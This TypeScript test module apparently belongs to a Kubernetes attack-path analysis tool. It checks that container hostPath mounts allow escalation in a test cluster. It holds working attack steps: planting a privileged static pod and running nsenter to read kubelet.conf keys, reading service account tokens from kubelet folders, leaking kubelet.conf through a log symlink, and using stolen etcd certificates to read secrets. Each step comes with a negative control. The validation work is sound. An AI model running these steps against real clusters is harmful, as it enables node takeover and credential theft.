/** Folders of the node inside a container: what can be written there runs as root on the node, what can be read holds keys. */
import type { PlainObject } from '../../../../src/graph/family.ts';
import { allowTo } from '../../../../src/graph/example-objects.ts';
import { runProgram } from '../../run-program.ts';
import type { Attack } from '../attack.ts';
import { TOKEN_FILE, boxPod, hostPod, withToken, wordSecret } from '../objects.ts';
import { type Place, Refused, type TriedFamily, way } from '../way.ts';
import { identityIn } from './nodes.ts';

const NOBODY = { securityContext: { runAsUser: 65_534 } };

export const family: TriedFamily = {
  ways: [
    way({
      edge: 'ESC_HOSTPATH_WRITE',
      nodes: true,
      from: inside,
      to: () => 'Node/node1',
      world: ({ ns }) => [hostPod(`${ns}/p`, ['/etc/kubernetes'])],
      take: (attack) => runStaticPod(attack, '/h0/manifests'),
      nearest: {
        because: 'the mount is read-only, and the user is not root',
        world: ({ ns }) => [hostPod(`${ns}/p`, ['ro:/etc/kubernetes'], {}, NOBODY)],
        refusal: /Read-only file system/,
      },
    }),
    way({
      edge: 'ESC_STATIC_POD',
      nodes: true,
      from: inside,
      to: () => 'Node/node1',
      world: ({ ns }) => [hostPod(`${ns}/p`, ['/etc/kubernetes/manifests'])],
      take: (attack) => runStaticPod(attack, '/h0'),
      nearest: {
        because: 'the mount is read-only',
        world: ({ ns }) => [hostPod(`${ns}/p`, ['ro:/etc/kubernetes/manifests'])],
        refusal: /Read-only file system/,
      },
    }),
    way({
      edge: 'ESC_HOSTPATH_READ',
      nodes: true,
      from: inside,
      to: () => 'NodeIdentity/node1',
      world: ({ ns }) => [hostPod(`${ns}/p`, ['ro:/etc/kubernetes'])],
      take: async (attack) => attack.is('system:nodes', identityIn(await attack.run('cat /h0/kubelet.conf'))),
      nearest: {
        because: 'the file is closed to other users',
        world: ({ ns }) => [hostPod(`${ns}/p`, ['ro:/etc/kubernetes'], {}, NOBODY)],
        refusal: /Permission denied/,
      },
    }),
    way({
      edge: 'ESC_HOSTPATH_TOKENS',
      nodes: true,
      from: inside,
      to: ({ x }) => `ServiceAccount/${x}`,
      world: ({ ns }) => [reader(ns), boxPod(`${ns}/victim`, withToken('x'))],
      take: readToken,
      nearest: {
        because: 'the pod runs on another node',
        world: ({ ns }) => [reader(ns), boxPod(`${ns}/victim`, { ...withToken('x'), nodeName: 'node2' })],
        refusal: /No such file/,
      },
    }),
    way({
      edge: 'ESC_VARLOG_SYMLINK',
      nodes: true,
      from: inside,
      to: () => 'NodeFiles/node1',
      world: ({ ns, x }) => [hostPod(`${ns}/p`, ['/var/log'], withToken('x')), ...allowTo(x, ns, 'get pods/log')],
      take: linkLog,
      nearest: {
        because: 'nobody may read logs through the kubelet',
        world: ({ ns }) => [hostPod(`${ns}/p`, ['/var/log'], withToken('x'))],
        refusal: /403/,
      },
    }),
    way({
      edge: 'ETCD_ACCESS',
      nodes: true,
      from: inside,
      to: () => 'ClusterAdmin',
      world: (place) => [wordSecret(place, `${place.ns}/db`), hostPod(`${place.ns}/p`, ['ro:/etc/kubernetes/pki/etcd'])],
      take: readEtcd,
      nearest: {
        because: 'a worker has no keys of etcd',
        world: (place) => [
          wordSecret(place, `${place.ns}/db`),
          hostPod(`${place.ns}/p`, ['ro:/etc/kubernetes/pki/etcd'], { nodeName: 'node2' }),
        ],
        refusal: /No such file/,
      },
    }),
  ],
  untried: {
    ESC_CORE_PATTERN: "it would change the machine's own kernel",
    CONTROL_PLANE_CONFIG_FILE: 'the API server of the test cluster reads its configurations elsewhere',
  },
};

function inside({ ns }: Place): string {
  return `Container/${ns}/p/c`;
}

/** No admission sees it; the kubelet only tells the API server what it runs. */
async function runStaticPod(attack: Attack, folder: string): Promise<void> {
  const name = `static-${attack.ns}`;
  const spec = boxPod(`${attack.ns}/${name}`, { nodeName: undefined, hostPID: true }, { securityContext: { privileged: true } });
  await attack.run(`cat > ${folder}/${name}.yaml <<'END'\n${JSON.stringify(spec)}\nEND`);
  const said = await attack.inOwnPod(`${name}-node1`, 'nsenter -t 1 -m -- cat /etc/kubernetes/kubelet.conf');
  attack.finds(said, 'client-key-data');
  await attack.run(`rm ${folder}/${name}.yaml`);
}

async function uidOf(attack: Attack, pod: string): Promise<string> {
  const text = await attack.asAdministrator('GET', `/api/v1/namespaces/${attack.ns}/pods/${pod}`);
  return (JSON.parse(text) as { metadata: { uid: string } }).metadata.uid;
}

/** It sees what the kubelet mounts later as well, so that it need not begin after the others. */
function reader(ns: string): PlainObject {
  const volumeMounts = [{ name: 'h0', mountPath: '/h0', readOnly: true, mountPropagation: 'HostToContainer' }];
  return hostPod(`${ns}/p`, ['ro:/var/lib/kubelet/pods'], {}, { volumeMounts });
}

async function readToken(attack: Attack): Promise<void> {
  const uid = await uidOf(attack, 'victim');
  const token = await attack.run(`cat /h0/${uid}/volumes/kubernetes.io~projected/*/token`);
  await attack.is(`system:serviceaccount:${attack.ns}:x`, { token });
}

/** The kubelet reads as root, and shows what it cannot understand of what should be a log. */
async function linkLog(attack: Attack): Promise<void> {
  const folder = `/h0/pods/${attack.ns}_p_${await uidOf(attack, 'p')}/c`;
  await attack.run(`ln -sf /etc/kubernetes/kubelet.conf ${folder}/0.log`);
  const token = await attack.run(`cat ${TOKEN_FILE}`);
  const said = await attack.get(`/api/v1/namespaces/${attack.ns}/pods/p/log`, { token }).catch((error: unknown) => {
    if (error instanceof Refused && error.message.includes('unsupported log format')) return error.message;
    throw error;
  });
  attack.finds(said, 'apiVersion: v1');
}

async function readEtcd(attack: Attack): Promise<void> {
  const { dir, ports, ns } = { dir: attack.cluster.dir, ports: attack.cluster.ports, ns: attack.ns };
  const file = (name: string): string => `${dir}/${ns}-${name}`;
  for (const name of ['ca.crt', 'client.crt', 'client.key']) {
    const text = await attack.run(`cat /h0/${name}`);
    await runProgram(['tee', file(name)], { stdin: text });
  }
  const env = {
    ETCDCTL_ENDPOINTS: `https://127.0.0.1:${ports.etcd}`,
    ETCDCTL_CACERT: file('ca.crt'),
    ETCDCTL_CERT: file('client.crt'),
    ETCDCTL_KEY: file('client.key'),
  };
  attack.finds(await runProgram(attack.cluster.control('etcdctl', ['get', `/registry/secrets/${ns}/db`]), { env }));
}
